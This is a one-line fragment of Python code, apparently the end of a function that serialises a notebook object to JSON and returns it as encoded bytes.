    return json.dumps(notebook).encode()
